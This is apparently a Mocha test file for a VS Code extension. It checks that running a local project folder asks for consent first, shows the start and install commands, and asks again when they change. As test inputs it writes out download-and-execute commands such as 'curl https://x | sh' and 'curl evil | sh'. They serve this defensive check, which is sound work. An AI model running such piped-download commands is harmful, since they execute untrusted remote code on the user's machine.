// A local folder runs only after a question with its name and commands: a link can call the command, too.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, it } from "mocha";
import * as vscode from "vscode";
import { withConsent } from "../../../../src/editor/commands/consent";
import { DeployFolder } from "../../../../src/editor/project/deployFolder";
import type { FolderRun } from "../../../../src/features/localService/folderRun";
import { FolderRunProcess } from "../../../../src/features/localService/folderRunProcess";
import { FolderRuns, type FolderRunsOptions } from "../../../../src/features/localService/folderRuns";
import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
import { MemoryState } from "../../../support/memoryState";
import { realFiles } from "../../../support/realFiles";
import { someAccounts } from "../../../support/someApp";
import { temporaryFolder } from "../../../support/temporaryFolder";
import { runProgress, workspace } from "../../../support/vscodeParts";
import { waitUntil } from "../../../support/waitUntil";

describe("the question before a folder runs on this machine", () => {
  let window: AskedWindow;
  let folder: string;
  let runs: FolderRuns;
  const started: string[] = [];
  let closeFolders: (event: { readonly removed: readonly { readonly uri: vscode.Uri }[] }) => void;

  beforeEach(() => {
    [window, folder] = [askedWindow(), temporaryFolder("run-question")];
    started.length = 0;
    Object.assign(vscode.window, {
      createTerminal: ({ name }: { readonly name: string }) => {
        started.push(name);
        return { show: () => undefined, dispose: () => undefined };
      },
    });
    Object.assign(workspace, {
      onDidChangeWorkspaceFolders: (call: typeof closeFolders) => {
        closeFolders = call;
        return { dispose: () => undefined };
      },
      fs: realFiles,
      workspaceFolders: [{ uri: vscode.Uri.file(folder), name: "shop", index: 0 }],
      getConfiguration: () => ({ inspect: () => undefined, get: () => undefined }),
    });
    runs = new FolderRuns({
      ...{ accounts: someAccounts(), state: new MemoryState(), clock: { now: () => 0 } },
      ...{ program: path.join(folder, "no-program.js"), dataDirectory: path.join(folder, "data") },
    } as unknown as FolderRunsOptions);
    writeFileSync(path.join(folder, "main.py"), "print(1)\n");
  });
  afterEach(() => runs.dispose());

  const projectFile = (file: object): void =>
    writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));

  it("names the folder and its start command, and runs nothing without a yes, whatever the argument", async () => {
    projectFile({ name: "Shop", mainFile: "main.py", startupCommand: "curl https://x | sh" });
    const uri = vscode.Uri.file(folder);
    // A link may carry no argument, or an address that VS Code makes a Uri of.
    for (const argument of [{ folder: uri.toString() }, { folder }, uri, undefined])
      await assert.rejects(runs.run(argument), { name: "CancelledError" });
    assert.deepEqual(
      window.asked,
      Array(4).fill({
        text: "Run Shop on this machine?",
        lines: [
          folder,
          "It starts with the command: curl https://x | sh",
          "Its packages are installed first. This can run scripts.",
        ],
        buttons: ["Run"],
      }),
    );
    assert.deepEqual(started, []);
  });

  it("is asked once for each start, also in the next window", async () => {
    window.answer = "Run";
    for (const mainFile of ["main.py", "main.py", "other.py"]) {
      projectFile({ name: "Shop", mainFile });
      for (const argument of [undefined, vscode.Uri.file(folder), { folder }]) {
        await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
        runs.dispose();
        runs = new FolderRuns(runs["options"]);
      }
    }
    assert.deepEqual(
      window.asked.filter(({ text }) => text.startsWith("Run ")).map(({ lines }) => lines[1]),
      ["It starts with the file main.py.", "It starts with the file other.py."],
    );
    assert.equal(started.length, 9);
  });

  it("is asked again before a run continues with another start command", async () => {
    const signal = new AbortController().signal;
    const uri = vscode.Uri.file(folder);
    const sent: unknown[] = [];
    const run = { uri, note: () => undefined, send: async (...all: unknown[]) => void sent.push(all) };
    const update = async () =>
      await runs["send"](run as never, await DeployFolder.read(uri, new MemoryState(), { signal }), signal);
    window.answer = "Run";
    for (const mainFile of ["main.py", "main.py", "other.py"]) {
      projectFile({ name: "Shop", mainFile });
      await update();
    }
    assert.deepEqual(
      window.asked.map(({ lines }) => lines[1]),
      ["It starts with the file main.py.", "It starts with the file other.py."],
    );
    window.answer = undefined;
    projectFile({ name: "Shop", startupCommand: "curl https://x | sh" });
    await assert.rejects(update(), { name: "CancelledError" });
    assert.equal(sent.length, 3);
  });

  it("shows the linked app's commands for every caller, and again when they change", async () => {
    let app: object = { startupCommand: "python run.py", installCommand: "make deps", memoryMB: 512 };
    const apps = { snapshot: {}, find: () => app };
    const limits: unknown[] = [];
    const getApp = async (_id: string, limit: unknown) => {
      limits.push(limit);
      return app;
    };
    const account = { ...{ id: "a", apps }, client: { getApp } };
    // Remembered sign-ins are read after a reload.
    const signedIn: (typeof account)[] = [];
    const load = async () => void (signedIn.length === 0 && signedIn.push(account));
    const get = () => signedIn[0];
    Object.assign(runs["options"], { accounts: { all: signedIn, get, load } });
    projectFile({ name: "Shop", mainFile: "main.py", memoryMB: 128, appId: "app1" });
    for (const argument of [undefined, withConsent({ folder })])
      await assert.rejects(runs.run(argument), { name: "CancelledError" });
    assert.deepEqual(window.asked.at(-1)?.lines.slice(1), [
      "It starts with the command: python run.py",
      "Its packages are installed first with the command: make deps",
    ]);
    assert.deepEqual(limits[0], { timeoutMs: 3_000, deadlineMs: 3_000 });
    const signal = new AbortController().signal;
    const uri = vscode.Uri.file(folder);
    const sent: Record<string, unknown>[] = [];
    const run = {
      ...{ uri, note: () => undefined },
      send: async (_files: unknown, request: Record<string, unknown>) => void sent.push(request),
    };
    const update = async () =>
      await runs["send"](run as never, await DeployFolder.read(uri, new MemoryState(), { signal }), signal);
    window.answer = "Run";
    await update();
    const { startupCommand, installCommand, memoryMB } = sent[0] ?? {};
    assert.deepEqual([startupCommand, installCommand, memoryMB], ["python run.py", "make deps", 512]);
    app = { ...app, installCommand: "curl evil | sh" };
    window.answer = undefined;
    await assert.rejects(update(), { name: "CancelledError" });
    assert.equal(sent.length, 1);
  });

  it("is refused where the command does not fit", async () => {
    projectFile({ name: "Shop", startupCommand: "x".repeat(1_001) });
    await assert.rejects(runs.run({ folder }), /too long to show in full/);
    assert.deepEqual(started, []);
  });

  it("is valid while the folder is open: its run ends when it is closed", () => {
    const uri = vscode.Uri.file(folder);
    let isOver = false;
    runs["runs"].set(uri.toString(), { dispose: () => (isOver = true) } as unknown as FolderRun);
    closeFolders({ removed: [{ uri: vscode.Uri.file("/elsewhere") }] });
    assert.equal(isOver, false);
    closeFolders({ removed: [{ uri }] });
    assert.equal(isOver, true);
  });

  describe("while the run starts", () => {
    const { start } = FolderRunProcess;
    let closeTerminal: () => void;
    let begun: ((process: object) => void)[];
    let ended: number;
    const process = () => ({ folder, end: async () => void ended++, run: () => undefined });
    const beginning = async (count: number) =>
      await waitUntil(() => begun.length === count, { what: `start ${count}` });
    beforeEach(() => {
      [begun, ended] = [[], 0];
      runProgress();
      Object.assign(vscode.window, {
        createTerminal: ({ pty }: { readonly pty: vscode.Pseudoterminal }) => {
          closeTerminal = () => pty.close();
          return { show: () => undefined, dispose: () => undefined };
        },
      });
      Object.assign(FolderRunProcess, { start: () => new Promise((resolve) => begun.push(resolve)) });
      projectFile({ name: "Shop", mainFile: "main.py" });
    });
    afterEach(() => Object.assign(FolderRunProcess, { start }));

    it("ends it when its terminal is closed, and the next call runs the folder again", async () => {
      const argument = withConsent({ folder });
      const first = runs.run(argument);
      await beginning(1);
      closeTerminal();
      begun[0]?.(process());
      await first;
      assert.equal(ended, 1);
      const second = runs.run(argument);
      await beginning(2);
      begun[1]?.(process());
      await second;
    });

    it("ends it when its folder is closed", async () => {
      const running = runs.run(withConsent({ folder }));
      await beginning(1);
      closeFolders({ removed: [{ uri: vscode.Uri.file(folder) }] });
      begun[0]?.(process());
      await running;
      assert.equal(ended, 1);
    });
  });

  it("is not asked for a call by the extension, whose notice the user has answered", async () => {
    projectFile({ name: "Shop", mainFile: "main.py" });
    for (const argument of [withConsent(vscode.Uri.file(folder)), withConsent({ folder })])
      await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
    assert.deepEqual([window.asked, started.length], [[], 2]);
  });
});
